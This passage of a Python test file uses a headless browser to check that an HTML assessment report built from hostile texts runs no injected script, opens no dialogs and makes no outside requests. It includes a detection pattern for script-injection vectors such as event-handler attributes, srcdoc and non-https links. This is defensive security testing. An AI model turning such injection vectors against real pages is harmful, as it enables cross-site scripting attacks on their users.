  for (const one of document.querySelectorAll("details")) one.open = true;
  const found = document.querySelectorAll("a, summary, button, input, [tabindex], [onclick], svg, img, mark");
  for (const one of found) {
    one.focus?.();
    for (const kind of ["pointerover", "mouseover", "mousedown", "mouseup"])
      one.dispatchEvent(new MouseEvent(kind, {bubbles: true}));
    one.click ? one.click() : one.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
  }
  await new Promise(done => setTimeout(done, 100));
  return found.length;
}"""
TEXT = """() => {
  const copy = document.body.cloneNode(true);
  for (const one of copy.querySelectorAll("script, style, mark .note")) one.remove();
  for (const one of copy.querySelectorAll("br, p, li, td, th, dt, dd, h1, h2, h3, summary")) one.append(" ");
  return copy.textContent;
}"""
SHAPE = """() => {
  const count = {};
  for (const one of document.querySelectorAll("h1, h2, h3, h4, h5, h6, section, main, nav, header, footer, figure, form, iframe, object, embed, link, base, input, template, title, style, script, meta, body"))
    count[one.localName] = (count[one.localName] || 0) + 1;
  count.ids = [...document.querySelectorAll("section[id]")].map(s => s.id).join(" ");
  return count;
}"""
HANDLERS = """() => [...document.querySelectorAll("*")].flatMap(e => [...e.attributes]
  .filter(a => /^on|^(srcdoc|formaction|ping|background|action)$/i.test(a.name)
    || (/^(href|src|xlink:href)$/i.test(a.name) && !/^(#|https:|data:image\\/)/.test(a.value)))
  .map(a => `${e.localName} ${a.name}=${a.value.slice(0, 60)}`))"""
POLICY = r'<meta content="[^"]*" http-equiv="Content-Security-Policy"/>'
DRAWN = """() => new Promise(done => {
  const until = Date.now() + 20000;
  const look = () => !window.Plotly || Date.now() > until
    || document.querySelectorAll(".plot > svg").length === 0 ? done() : setTimeout(look, 50);
  look();
})"""


class Seen:
    """Open a page and note whatever it does beyond showing itself."""

    def __init__(self, browser, path: Path) -> None:
        self.scripts: list[str] = []
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.context.expose_function("xss", lambda *said: self.scripts.append(str(said)))
        self.context.add_init_script(TRAPS)
        self.context.on("page", lambda one: self.requests.append(f"window {one.url}"))
        self.page.on("dialog", self._dialog)
        self.page.on("request", lambda one: self.requests.append(one.url))
        self.page.on("websocket", lambda one: self.requests.append(one.url))
        self.page.on("pageerror", lambda one: self.errors.append(str(one)))
        self.page.on("framenavigated", lambda one: self.requests.append(one.url))
        self.page.on("requestfailed", lambda one: self.requests.append(one.url))
        self.own = path.as_uri()
        self.page.goto(self.own)
        self.page.evaluate(DRAWN)

    def _route(self, route) -> None:
        # 204 lets a click on a link end where it began, and the request is noted all the same.
        if route.request.url.partition("#")[0] == self.own:
            route.continue_()
        else:
            self.requests.append(route.request.url)
            route.fulfill(status=204)

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def elsewhere(self) -> set[str]:
        return {
            url for url in self.requests
            if url.partition("#")[0] != self.own and not url.startswith("data:")
        }  # fmt: skip


@pytest.fixture(scope="module")
def pages(hostile, twin, tmp_path_factory) -> dict[str, Path]:
    """The page with and without scripts, each with and without its content policy; and the twin."""
    more = Made(tmp_path_factory.mktemp("static"), 0, ("html",), charts="static")
    folder = tmp_path_factory.mktemp("pages")
    found = {"twin": twin.files["html"]}
    for name, made in (("interactive", hostile), ("static", more)):
        page, times = re.subn(POLICY, "", made.html)
        assert times == 1
        bare = folder / f"{name}.html"
        bare.write_text(page, encoding="utf-8")
        found |= {name: made.files["html"], f"{name}, no policy": bare}
    return found


@needs_chromium
@pytest.mark.slow
@pytest.mark.parametrize(
    "kind", ["interactive", "interactive, no policy", "static", "static, no policy"]
)
def test_a_hostile_assessment_does_nothing_in_a_browser(kind, pages, hostile, browser):
    seen = Seen(browser, pages[kind])
    assert seen.page.evaluate(HANDLERS) == []
    if kind.startswith("interactive"):
        drawn = seen.page.locator(".js-plotly-plot").count()
        assert drawn == seen.page.locator("figure.chart").count() > 3
    assert seen.page.evaluate(CLICK_ALL) > 50
    for place in seen.page.locator(".js-plotly-plot").all():
        place.hover()
    to_address = "u => new URL(u).href.split('#')[0]"
    wanted = {unquote(seen.page.evaluate(to_address, url)) for url in leading(hostile)}
    assert not seen.scripts
    assert not seen.dialogs
    assert not seen.errors
    assert seen.page.evaluate("window.__ran") == []
    assert seen.page.url.partition("#")[0] == seen.own
    assert {unquote(url) for url in seen.elsewhere()} == wanted, (
        "only the register's own links lead out, and only by a click"
    )
    seen.context.close()


@needs_chromium
@pytest.mark.slow
@pytest.mark.parametrize("kind", ["interactive", "static, no policy"])
def test_nothing_is_requested_before_a_click(kind, pages, browser):
    seen = Seen(browser, pages[kind])
    assert seen.elsewhere() == set()
    seen.context.close()


@needs_chromium
@pytest.mark.slow
@pytest.mark.parametrize("kind", ["interactive", "static"])
def test_every_text_stands_in_the_page_word_for_word(kind, pages, hostile, browser):
    seen = Seen(browser, pages[kind])
    text = plain(seen.page.evaluate(TEXT))
    missing = {place: said for place, said in hostile.expected().items() if said not in text}
    assert missing == {}
    assert len(hostile.expected()) > 200
    seen.context.close()


@needs_chromium
@pytest.mark.slow
def test_no_text_adds_a_heading_or_takes_one_away(pages, browser):
    one, other = Seen(browser, pages["interactive"]), Seen(browser, pages["twin"])
    assert one.page.evaluate(SHAPE) == other.page.evaluate(SHAPE)
    one.context.close()
    other.context.close()


@needs_chromium
@pytest.mark.slow
@pytest.mark.parametrize("turn", [31, 67])
def test_other_texts_in_the_same_places(turn, tmp_path, browser):
    made = Made(tmp_path, turn, ("html",))
    bare = tmp_path / "bare.html"
    bare.write_text(re.sub(POLICY, "", made.html), encoding="utf-8")
    seen = Seen(browser, bare)
    assert seen.page.evaluate(HANDLERS) == []
    text = plain(seen.page.evaluate(TEXT))
    assert {place: said for place, said in made.expected().items() if said not in text} == {}
    assert (seen.scripts, seen.dialogs, seen.errors, seen.elsewhere()) == ([], [], [], set())
    assert seen.page.evaluate("window.__ran") == []
    seen.context.close()


@needs_chromium
@pytest.mark.slow
@pytest.mark.parametrize("width", [1280, 390])
def test_no_text_makes_the_page_wider_than_the_screen(width, pages, browser):
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    page.goto(pages["static"].as_uri())
    page.evaluate("() => document.querySelectorAll('details').forEach(one => { one.open = true; })")
    assert page.evaluate("() => document.documentElement.scrollWidth - innerWidth") <= 0
    context.close()
